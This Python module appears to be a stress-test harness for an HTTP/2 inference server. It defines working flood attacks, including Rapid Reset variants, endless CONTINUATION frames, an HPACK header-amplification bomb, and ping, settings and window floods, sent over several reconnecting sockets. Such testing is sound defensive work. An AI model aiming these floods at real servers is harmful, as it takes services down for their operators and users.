"""Floods of HTTP/2 frames, each legal or nearly so by itself."""

from __future__ import annotations

import contextlib
import struct
import threading
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import TYPE_CHECKING

from http2_peer import EMPTY_MESSAGE, Peer, block, call_headers, raw_frame

if TYPE_CHECKING:
    from collections.abc import Callable

NUM_SOCKETS = 3
MAX_CONNECTIONS = 30
"""An attacker who is thrown out comes back so many times."""
PIECES_AT_ONCE = 100
GENERATE = "/pagewire.v1.InferenceService/Generate"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
_CALL = block(call_headers())
_GENERATE = block(call_headers(GENERATE))


@dataclass(frozen=True)
class Attack:
    """What is sent again and again on one connection."""

    piece: Callable[[int], bytes]
    """Of a stream's number."""
    opening: bytes = b""
    reads: bool = True
    """Whether the attacker takes the answers, so that the server can go on sending them."""

    def __call__(self, port: int, num_pieces: int) -> None:
        """Attack over several sockets at once."""
        with ThreadPoolExecutor(NUM_SOCKETS) as sockets:
            for attacker in [sockets.submit(self._attack, port, num_pieces) for _ in range(NUM_SOCKETS)]:
                attacker.result()

    def _attack(self, port: int, num_pieces: int) -> None:
        for _ in range(MAX_CONNECTIONS):
            with Peer(port, timeout_s=60.0 if self.reads else 0.5) as peer:
                num_pieces -= self._send(peer, num_pieces)
            if num_pieces <= 0 or not self.reads:
                return

    def _send(self, peer: Peer, num_pieces: int) -> int:
        """Send up to so many pieces, and return how many the server let itself be sent."""
        reader = threading.Thread(target=peer.drain)
        if self.reads:
            reader.start()
        num_sent = 0
        with contextlib.suppress(TimeoutError):
            peer.send_bytes(self.opening)
            while num_sent < num_pieces:
                streams = range(num_sent, num_sent + PIECES_AT_ONCE)
                if not peer.send_bytes(b"".join(self.piece(2 * number + 1) for number in streams)):
                    break
                num_sent += PIECES_AT_ONCE
        peer.hang_up()
        if self.reads:
            reader.join()
        return num_sent


def start(stream: int, headers: bytes = _CALL, flags: int = END_HEADERS) -> bytes:
    return raw_frame(HEADERS, flags, stream, headers)


def reset(stream: int) -> bytes:
    return raw_frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def message(stream: int) -> bytes:
    return raw_frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)


def widen(stream: int, by: int) -> bytes:
    return raw_frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", by))


def setting(key: int, value: int) -> bytes:
    return raw_frame(SETTINGS, 0, 0, struct.pack(">HI", key, value))


def ping(number: int) -> bytes:
    return raw_frame(PING, 0, 0, struct.pack(">Q", number))


_BIG_HEADER = b"\x40\x03x-a\x7f" + b"\xa1\x1e" + b"a" * 4000
"""A literal that stays in the dynamic table: 4,000 bytes, to be named again by one byte."""
_AGAIN = b"\xbe"

RAPID_RESET = Attack(lambda stream: start(stream) + reset(stream))

ATTACKS: dict[str, Attack] = {
    "rapid reset": RAPID_RESET,
    "rapid reset, unread": Attack(RAPID_RESET.piece, reads=False),
    "rapid reset of whole requests": Attack(lambda stream: start(stream) + message(stream) + reset(stream)),
    "rapid reset of generations": Attack(
        lambda stream: start(stream, _GENERATE) + message(stream) + reset(stream)
    ),
    "made you reset by a window of nothing": Attack(lambda stream: start(stream) + widen(stream, 0)),
    "made you reset by a window too wide": Attack(lambda stream: start(stream) + widen(stream, 2**31 - 1)),
    "made you reset by data after the end": Attack(
        lambda stream: start(stream, flags=END_HEADERS | END_STREAM) + message(stream)
    ),
    "calls that are never finished": Attack(start),
    "pings": Attack(ping),
    "pings, unread": Attack(ping, reads=False),
    "settings": Attack(lambda number: setting(4, 65_535 + number % 1000)),
    "settings, unread": Attack(lambda number: setting(4, 65_535 + number % 1000), reads=False),
    "tables that grow and shrink": Attack(lambda number: setting(1, 4096 * (number % 4 // 2))),
    "empty data": Attack(lambda _: raw_frame(DATA, 0, 1), opening=start(1)),
    "priorities": Attack(lambda stream: raw_frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 7))),
    "windows": Attack(lambda _: widen(0, 1)),
    "unknown frames": Attack(lambda _: raw_frame(0xBE, 0, 0, bytes(20))),
    "headers that do not end": Attack(
        lambda _: raw_frame(CONTINUATION, 0, 1, block([("x-a", "b" * 50)])), opening=start(1, flags=0)
    ),
    "empty continuations": Attack(lambda _: raw_frame(CONTINUATION, 0, 1), opening=start(1, flags=0)),
    "headers that unfold": Attack(
        lambda stream: start(stream, _CALL + (_BIG_HEADER if stream == 1 else b"") + _AGAIN * 4000)
    ),
}
